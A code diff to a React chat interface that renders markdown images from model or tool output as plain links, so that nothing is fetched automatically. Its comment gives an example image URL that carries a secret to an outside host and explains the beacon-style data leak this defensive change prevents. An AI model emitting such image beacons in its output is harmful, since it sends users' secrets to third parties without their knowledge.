@@ -7,12 +7,23 @@ import { createContext, useContext, useState } from "react";
 export type ThreadExtras = { approvals: Map<string, Approval>; jobs: Map<string, Job> };
 export const ThreadExtrasContext = createContext<ThreadExtras>({ approvals: new Map(), jobs: new Map() });
 
-/** Markdown without raw HTML (react-markdown escapes it), links opened safely. */
+/**
+ * Markdown without raw HTML (react-markdown escapes it), links opened safely, and images as plain
+ * links: the model's and tools' text may carry `![](https://elsewhere/?secret)`, and an <img>
+ * would fetch it on render (a beacon). Nothing is loaded unless the user follows the link.
+ */
 export function MarkdownText() {
   return (
     <MarkdownTextPrimitive
       className="markdown"
-      components={{ a: ({ node: _node, ...props }) => <a {...props} target="_blank" rel="noopener noreferrer nofollow" /> }}
+      components={{
+        a: ({ node: _node, ...props }) => <a {...props} target="_blank" rel="noopener noreferrer nofollow" />,
+        img: ({ src, alt }) => (
+          <a href={typeof src === "string" ? src : undefined} className="image-link" target="_blank" rel="noopener noreferrer nofollow" data-testid="image-link">
+            {alt || (typeof src === "string" ? src : "image")}
+          </a>
+        ),
+      }}
     />
   );
 }
